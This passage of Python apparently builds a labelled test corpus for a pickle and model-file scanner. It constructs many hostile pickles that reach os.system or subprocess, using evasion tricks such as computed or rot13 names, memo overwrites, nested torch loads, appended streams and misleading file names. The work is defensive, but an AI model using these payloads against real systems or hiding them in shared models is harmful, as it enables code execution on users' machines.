
    corpus.hostile("computed-module-str.pkl", module, "malicious", "pickle", "the module is what str(bytes) returns", "pickle")

    def both(payload):
        first = Call(G("builtins", "str"), b"posix", "ascii")
        second = Call(G("builtins", "str"), b"system", "ascii")
        return proto(4) + encode(first, 4) + encode(second, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-both.pkl", both, "malicious", "pickle", "module and name are both computed", "pickle")

    def joined(payload):
        name = Call(G("builtins", "str.join"), "", ["sys", "tem"])
        return proto(4) + short("os") + encode(name, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-join.pkl", joined, "malicious", "pickle", "the name is joined by str.join", "pickle")

    def reversed_(payload):
        name = Call(G("builtins", "str.join"), "", Call(G("builtins", "reversed"), "metsys"))
        return proto(4) + short("os") + encode(name, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-reversed.pkl", reversed_, "malicious", "pickle", "the name is reversed and joined", "pickle")

    def codec(payload):
        name = Call(G("_codecs", "decode"), b"system", "ascii")
        return proto(4) + short("os") + encode(name, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-codecs.pkl", codec, "malicious", "pickle", "the name is decoded by _codecs", "pickle")

    def rot(payload):
        name = Call(G("_codecs", "encode"), "flfgrz", "rot13")
        return proto(4) + short("os") + encode(name, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-rot13.pkl", rot, "malicious", "pickle", "the name comes from the listed _codecs.encode with another encoding", "pickle")

    corpus.hostile("computed-integers.pkl", proto(4) + b"K\x01K\x02\x93)R.", "malicious", "*", "operands of STACK_GLOBAL that are integers")

    def call_of_call(payload):
        return dumps(Call(Call(Call(G("functools", "partial"), G("functools", "partial")), G("os", "system"), payload.command)), 4)

    corpus.hostile("computed-call-chain.pkl", call_of_call, "malicious", "pickle", "REDUCE on what REDUCE returned", "pickle")

    def computed_listed(payload):
        # Nothing denied is named: the callable comes out of a listed container.
        found = Call(G("collections", "OrderedDict"), [("k", 1)])
        return dumps(Call(found, payload.command), 4)

    corpus.hostile("computed-call-listed.pkl", computed_listed, "malicious", "pickle", "REDUCE on an instance of a listed class")

    corpus.hostile("computed-call-string.pkl", proto(2) + encode("os.system", 2) + encode(("true",), 2) + b"R.", "not-clean", "pickle", "REDUCE on a string")
    corpus.hostile("computed-newobj-instance.pkl", proto(2) + global_("collections", "Counter") + b")R" + b")\x81.", "malicious", "pickle", "NEWOBJ on an instance")


def memo(corpus):
    """The memo, DUP and POP move operands away from the opcode that uses them."""

    def through_memo(payload):
        return proto(4) + short("os") + b"\x940" + short("system") + b"\x940" + b"N0h\x00h\x01\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("memo-operands.pkl", through_memo, "malicious", "pickle", "the operands come out of the memo", "pickle")

    def overwritten(payload):
        return (
            proto(4) + short("collections") + b"q\x000" + short("OrderedDict") + b"q\x010"
            + short("os") + b"q\x000" + short("system") + b"q\x010" + b"h\x00h\x01\x93" + encode((payload.command,), 4) + b"R."
        )

    corpus.hostile("memo-overwritten.pkl", overwritten, "malicious", "pickle", "memo slots with harmless names are overwritten", "pickle")

    def order(payload):
        return proto(4) + short("system") + b"q\x00" + short("os") + b"q\x0100" + b"h\x01h\x00\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("memo-swapped.pkl", order, "malicious", "pickle", "the operands were stored in the other order", "pickle")

    def memoize_counts(payload):
        # MEMOIZE stores at the number of entries, so a PUT at 1 makes the next MEMOIZE overwrite it.
        return (
            proto(4) + short("posixpath") + b"q\x010" + short("os") + b"\x940" + short("system") + b"q\x020"
            + b"h\x01h\x02\x93" + encode((payload.command,), 4) + b"R."
        )

    corpus.hostile("memo-memoize-overwrites.pkl", memoize_counts, "malicious", "pickle", "MEMOIZE overwrites a slot that PUT has set", "pickle")

    def far_slot(payload):
        slot = struct.pack("<I", 2**24)
        return proto(4) + short("os") + b"r" + slot + b"0" + short("system") + b"p77\n0" + b"j" + slot + b"g77\n\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("memo-far-slot.pkl", far_slot, "malicious", "pickle", "slots far apart, set and read by different opcodes", "pickle")

    corpus.hostile(
        "memo-slot-4g.pkl",
        proto(4) + short("os") + b"r\xff\xff\xff\xff0" + b"j\xff\xff\xff\xff" + short("system") + b"\x93" + encode(("true",), 4) + b"R.",
        "malicious", "pickle", "the highest slot there is",
    )

    def duplicated(payload):
        return proto(4) + short("os") + b"2" + b"0" + short("system") + b"20\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("memo-dup-pop.pkl", duplicated, "malicious", "pickle", "DUP and POP between operands and opcode", "pickle")

    def junk(payload):
        return proto(4) + short("os") + b"(" + short("collections") + short("OrderedDict") + b"1" + short("system") + b"N0]0\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("memo-junk-between.pkl", junk, "malicious", "pickle", "harmless names between the operands, dropped by POP_MARK", "pickle")

    def memo_global(payload):
        return proto(2) + global_("os", "system") + b"q\x050" + global_("collections", "OrderedDict") + b"0h\x05" + encode((payload.command,), 2) + b"R."

    corpus.hostile("memo-global.pkl", memo_global, "malicious", "pickle", "the callable itself comes out of the memo", "pickle")

    def memo_call(payload):
        # The slot holds a listed class when it is set, and a denied callable when it is read.
        return (
            proto(2) + global_("collections", "OrderedDict") + b"q\x000" + global_("posix", "system") + b"q\x000"
            + b"h\x00" + encode((payload.command,), 2) + b"R."
        )

    corpus.hostile("memo-listed-then-denied.pkl", memo_call, "malicious", "pickle", "the slot of a listed class is overwritten with a denied callable", "pickle")

    corpus.hostile(
        "memo-unset.pkl",
        proto(2) + global_("os", "system") + encode(("true",), 2) + b"R0h\x63.",
        "malicious", "pickle", "a hostile call, then a read of an unset slot",
    )

    def shared(payload):
        # A list, put into the memo before its elements: what is in it comes later.
        return proto(2) + b"]q\x00" + global_("os", "system") + b"ah\x00" + encode(Call(G("os", "system"), payload.command), 2) + b"a."

    corpus.hostile("memo-shared-list.pkl", shared, "malicious", "pickle", "a list grows after it was stored", "pickle")


def objects(corpus):
    """EXT, BUILD, persistent ids, and objects whose state is code."""
    corpus.hostile("ext1.pkl", proto(2) + b"\x82\x01" + encode(("true",), 2) + b"R.", "malicious", "pickle", "EXT1: a callable by its number in the registry")
    corpus.hostile("ext2.pkl", proto(2) + b"\x83\x01\x01" + encode(("true",), 2) + b"R.", "malicious", "pickle", "EXT2")
    corpus.hostile("ext4.pkl", proto(2) + b"\x84\x01\x00\x00\x01" + encode(("true",), 2) + b"R.", "malicious", "pickle", "EXT4")
    corpus.hostile("ext-unused.pkl", proto(2) + b"\x82\x070N.", "malicious", "pickle", "EXT1, dropped")

    def setstate(payload):
        body = global_("collections", "OrderedDict") + b")R" + encode({"__setstate__": G("os", "system")}, 2) + b"b" + encode(payload.command, 2) + b"b."
        return proto(2) + body

    corpus.hostile("build-setstate.pkl", setstate, "malicious", "pickle", "BUILD sets __setstate__ to os.system, a second BUILD calls it", "pickle")

    corpus.hostile(
        "build-dunder.pkl",
        proto(2) + global_("collections", "OrderedDict") + b")R" + encode({"__reduce__": 1}, 2) + b"b.",
        "malicious", "pickle", "BUILD sets a dunder; nothing denied is named",
    )
    corpus.hostile(
        "build-slots-dunder.pkl",
        proto(2) + global_("collections", "Counter") + b")R" + encode((None, {"__class__": 1}), 2) + b"b.",
        "malicious", "pickle", "BUILD with slot state sets __class__",
    )
    corpus.hostile(
        "build-on-class.pkl",
        proto(2) + global_("collections", "Counter") + encode({"mreg": 1}, 2) + b"b.",
        "malicious", "pickle", "BUILD on a class itself changes every later instance",
    )
    corpus.hostile(
        "build-on-list.pkl", proto(2) + b"]" + encode({"mreg": 1}, 2) + b"b.", "malicious", "pickle", "BUILD on something that is no object"
    )

    def build_on_class(payload):
        # Counter.__init__ becomes os.system for every later instance.
        body = (
            global_("collections", "UserString") + encode((None, {"__init__": G("os", "system")}), 2) + b"b0"
            + global_("collections", "UserString") + encode((payload.command,), 2) + b"R."
        )
        return proto(2) + body

    corpus.hostile("build-class-attribute.pkl", build_on_class, "malicious", "pickle", "BUILD on a class replaces a method with os.system", None)

    corpus.hostile("persid-plain.pkl", b"Pmreg\n.", "not-clean", "*", "PERSID in a plain pickle: what it means is up to the loader")
    corpus.hostile("persid-binary.pkl", proto(2) + encode(("file", "/nonexistent/mreg"), 2) + b"Q.", "suspicious", "pickle", "BINPERSID other than torch's")

    def function_transformer(payload):
        import os

        from sklearn.preprocessing import FunctionTransformer

        return pickle.dumps(FunctionTransformer(os.system, inverse_func=None), 4)

    corpus.hostile("estimator-function-transformer.pkl", function_transformer, "malicious", "pickle", "a sklearn FunctionTransformer that holds os.system: transform runs it")

    def pipeline(payload):
        import subprocess

        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import FunctionTransformer, StandardScaler

        return pickle.dumps(make_pipeline(StandardScaler(), FunctionTransformer(subprocess.check_output)), 5)

    corpus.hostile("estimator-pipeline.pkl", pipeline, "malicious", "pickle", "a sklearn pipeline with a step that holds subprocess.check_output")

    class Reduced:
        def __init__(self, function, arguments):
            self.made = (function, arguments)

        def __reduce__(self):
            return self.made

    def real_pickler(protocol):
        import os

        def build(payload):
            return pickle.dumps({"state": [1, 2, 3], "hook": Reduced(os.system, (payload.command,))}, protocol)

        return build

    for protocol in range(6):
        corpus.hostile(f"reduce-p{protocol}.pkl", real_pickler(protocol), "malicious", "pickle", f"what __reduce__ gives a real pickler, protocol {protocol}", "pickle")


def arguments(corpus):
    """Listed functions with arguments that are not theirs."""
    rows = [
        ("codecs-rot13", Call(G("_codecs", "encode"), "bf.flfgrz", "rot13"), "malicious"),
        ("codecs-one", Call(G("_codecs", "encode"), "x"), "not-clean"),
        ("codecs-computed", Call(G("_codecs", "encode"), Call(G("builtins", "str"), 1), "latin1"), "malicious"),
        ("rebuild-tensor-string", Call(G("torch._utils", "_rebuild_tensor_v2"), "x", 0, (1,), (1,), False, None), "not-clean"),
        ("load-from-bytes-computed", Call(G("torch.storage", "_load_from_bytes"), Call(G("builtins", "bytes"), 8)), "malicious"),
        ("load-from-bytes-none", Call(G("torch.storage", "_load_from_bytes")), "malicious"),
        ("codecs-zlib", Call(G("_codecs", "encode"), b"x", "zlib_codec"), "malicious"),
    ]
    for slug, value, expected in rows:
        corpus.hostile(f"args-{slug}.pkl", dumps(value, 4), expected, "pickle", f"a listed function with other arguments: {slug}")


def nested(corpus):
    """A pickle in a string that a listed function loads."""

    def by_torch(payload):
        inner = dumps(Call(G("os", "system"), payload.command), 2)
        return dumps(Call(G("torch.storage", "_load_from_bytes"), inner), 4)

    corpus.hostile("nested-load-from-bytes.pkl", by_torch, "malicious", "pickle", "torch.storage._load_from_bytes of a hostile pickle", None)

    def twice(payload):
        inner = dumps(Call(G("os", "system"), payload.command), 2)
        middle = dumps(Call(G("torch.storage", "_load_from_bytes"), inner), 4)
        return dumps(Call(G("torch.storage", "_load_from_bytes"), middle), 4)

    corpus.hostile("nested-load-from-bytes-twice.pkl", twice, "malicious", "pickle", "nested two deep", None)

    def latin(payload):
        inner = dumps(Call(G("posix", "system"), payload.command), 0)
        return dumps(Call(G("torch.storage", "_load_from_bytes"), inner), 2)

    corpus.hostile("nested-latin1.pkl", latin, "malicious", "pickle", "the nested octets come from _codecs.encode, as protocol 2 writes bytes", None)

    def through_memo(payload):
        inner = dumps(Call(G("os", "system"), payload.command), 2)
        return proto(4) + encode(inner, 4) + b"\x940" + stack_global("torch.storage", "_load_from_bytes") + b"h\x00\x85R."

    corpus.hostile("nested-memo.pkl", through_memo, "malicious", "pickle", "the nested octets come out of the memo", None)

    def object_array(payload):
        import os

        import numpy

        class Reduced:
            def __reduce__(self):
                return os.system, (payload.command,)

        return pickle.dumps(numpy.array([Reduced(), 1], dtype=object), 4)

    corpus.hostile("nested-numpy-object-array.pkl", object_array, "malicious", "pickle", "the call is an element of a numpy object array", "pickle")


def broken(corpus):
    """A loader executes before it fails: a broken rest hides nothing."""

    def variant(slug, tail, what, expected="malicious", protocol=4, form="pickle"):
        def build(payload):
            return proto(protocol) + encode(Call(G("os", "system"), payload.command), protocol) + tail

        corpus.hostile(f"broken-{slug}.pkl", build, expected, form, what, "pickle")

    variant("no-stop", b"", "a hostile call and no STOP")
    variant("no-stop-p0", b"", "protocol 0: a hostile call and no STOP", protocol=0)
    variant("bad-opcode", b"\xff\xff\xff.", "a hostile call, then an opcode there is none of")
    variant("underflow", b"000000R.", "a hostile call, then the stack is empty")
    variant("no-mark", b"t.", "a hostile call, then a TUPLE without a mark")
    variant("huge-string", b"X\xff\xff\xff\x7fab", "a hostile call, then a string longer than the file")
    variant("huge-bytes8", b"\x8e" + b"\xff" * 7 + b"\x7f", "a hostile call, then BINBYTES8 of 2^63 octets")
    variant("negative-length", b"T\xff\xff\xff\xffab.", "a hostile call, then a string of negative length")
    variant("bad-utf8", b"X\x02\x00\x00\x00\xff\xfe.", "a hostile call, then a string that is not UTF-8")
    variant("bad-integer", b"Imreg\n.", "a hostile call, then an INT that is no number")
    variant("bad-memo", b"h\xfe.", "a hostile call, then a slot never set")
    variant("bad-proto", b"\x80\x7f.", "a hostile call, then a protocol there is none of")
    variant("bad-frame", b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.", "a hostile call, then a frame longer than the file")
    variant("bad-string", b"Sno quotes\n.", "a hostile call, then a STRING without quotes")
    variant("unhashable", b"0}]Ns.", "a hostile call, then a list as a key")
    variant("build-none", b"0NNb.", "a hostile call, then BUILD on None")
    variant("missing-module", b"0cmreg_is_not_there\nx\n.", "a hostile call, then a module that is not there")
    variant("readonly", b"\x97.", "a hostile call, then NEXT_BUFFER without buffers", protocol=5)

    corpus.hostile("broken-before-call.pkl", proto(4) + b"\xff" + encode(Call(G("os", "system"), "true"), 4) + b".", "not-clean", "*", "an opcode there is none of stands before the call")
    corpus.hostile("broken-empty-body.pkl", proto(4), "not-clean", "*", "a header and nothing else")
    corpus.hostile("broken-truncated-names.pkl", proto(4) + short("os") + b"\x8c\x40sys", "not-clean", "*", "the file ends inside a name")
    corpus.hostile("broken-proto-9.pkl", b"\x80\x09" + encode(Call(G("os", "system"), "true"), 4) + b".", "not-clean", "*", "a protocol there is none of at the beginning")


def streams(corpus):
    """Several pickles in one file, octets before or behind."""

    def call(payload, protocol=4):
        return dumps(Call(G("os", "system"), payload.command), protocol)

    plain = dumps({"weights": [1, 2, 3]}, 4)

    corpus.hostile("streams-second.pkl", lambda p: plain + call(p), "malicious", "pickle", "a harmless pickle, then a hostile one", "pickles")
    corpus.hostile("streams-first.pkl", lambda p: call(p) + plain, "malicious", "pickle", "a hostile pickle, then a harmless one", "pickle")
    corpus.hostile("streams-fifth.pkl", lambda p: plain * 4 + call(p, 2), "malicious", "pickle", "the fifth of five is hostile", "pickles")
    corpus.hostile("streams-p0-p4.pkl", lambda p: dumps([1], 0) + call(p, 0), "malicious", "pickle", "two of protocol 0, the second hostile", "pickles")
    corpus.hostile("streams-broken-middle.pkl", lambda p: plain + b"\x80\x04\xff\xff" + call(p), "not-clean", "pickle", "harmless, broken, hostile")
    corpus.hostile("streams-harmless-two.pkl", plain + plain, "suspicious", "pickle", "two harmless pickles in one file: which one loads is up to the loader")
    corpus.hostile("streams-padding-then-call.pkl", lambda p: plain + b"\0" * 512 + call(p), "malicious", "pickle", "harmless, 512 zero octets, hostile")
    corpus.hostile("streams-text-behind.pkl", plain + b"\nJust a note.\n", "suspicious", "pickle", "text behind the pickle")
    corpus.hostile("streams-zip-behind.pkl", lambda p: plain + _zip({"archive/data.pkl": call(p, 2), "archive/version": b"3\n"}), "malicious", "*", "a torch archive behind a harmless pickle: zipfile finds it from the end", None)
    corpus.hostile("streams-text-before.pkl", lambda p: b"S'# model card'\n0" + call(p, 0), "malicious", "pickle", "protocol 0 that begins like text", "pickle")
    corpus.hostile("streams-shebang.pkl", lambda p: b"N0" * 8 + call(p, 0), "malicious", "pickle", "pushes and pops before the call", "pickle")


def _zip(members):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, octets in members.items():
            archive.writestr(zipfile.ZipInfo(name), octets)
    return buffer.getvalue()


def disguised(corpus):
    """The content decides the format, never the name."""
    rows = [
        ("model.safetensors", 4), ("notes.txt", 0), ("picture.png", 2), ("data.json", 4), ("README.md", 0), ("net.onnx", 2),
        ("weights.gguf", 4), ("pytorch_model.bin", 2), ("weights.h5", 3), ("saved_model.pb", 4), ("photo.jpg", 0), ("config.yaml", 0),
        ("model.pt", 2), ("model.pth", 4), ("model.ckpt", 3), ("model.joblib", 4), ("model.npy", 4), ("archive.zip", 2), ("archive.tar.gz", 4),
        ("vocabulary", 4), ("model.dat", 0), ("model.pt2", 4), ("tokenizer.model", 2), ("table.csv", 0),
    ]
    for name, protocol in rows:
        slug = name.replace("_", "-")
        def build(payload, protocol=protocol):
            return dumps(Call(G("os", "system"), payload.command), protocol)

        corpus.hostile(f"disguised-{slug}" if "." in slug else f"disguised-{slug}-none", build, "malicious", "pickle", f"a hostile pickle of protocol {protocol} named {name}", "pickle")


def unknown(corpus):
    """Nothing denied is named, and nothing is known to be harmless."""
    corpus.hostile("unknown-user-function.pkl", dumps(Call(G("mymodel.layers", "build"), 1), 4), "suspicious", "pickle", "a function of a module nobody knows")
    corpus.hostile("unknown-main-class.pkl", proto(2) + global_("__main__", "Model") + b")\x81}b.", "not-clean", "pickle", "a class of __main__")
    corpus.hostile("unknown-typo.pkl", dumps(G("collections", "OrderedDict2"), 4), "suspicious", "pickle", "a listed module, another name")
    corpus.hostile("unknown-case.pkl", dumps(G("Collections", "OrderedDict"), 4), "suspicious", "pickle", "a listed module in another case")
    corpus.hostile("unknown-homoglyph.pkl", dumps(G("c\u043ellections", "OrderedDict"), 4), "suspicious", "pickle", "a listed module with a Cyrillic letter")
    corpus.hostile("unknown-library-function.pkl", dumps(G("sklearn.linear_model._base", "make_dataset"), 4), "suspicious", "pickle", "a function of sklearn: only its classes are known")
    corpus.hostile("unknown-prefix-only.pkl", dumps(G("sklearnx.linear_model", "LinearRegression"), 4), "suspicious", "pickle", "a module that only begins like sklearn")
    corpus.hostile("unknown-numpy-function.pkl", dumps(Call(G("numpy", "genfromtxt"), "/nonexistent/mreg"), 4), "not-clean", "pickle", "a numpy function that reads a file")
    corpus.hostile("unknown-torch-function.pkl", dumps(Call(G("torch.jit", "load"), "/nonexistent/mreg"), 4), "not-clean", "pickle", "torch.jit.load")
    corpus.hostile("unknown-empty-name.pkl", proto(4) + short("") + short("") + b"\x93.", "not-clean", "*", "empty module and name")
    corpus.hostile("unknown-space-name.pkl", dumps(G("os ", "system"), 4), "not-clean", "*", "a module name with a space at its end")
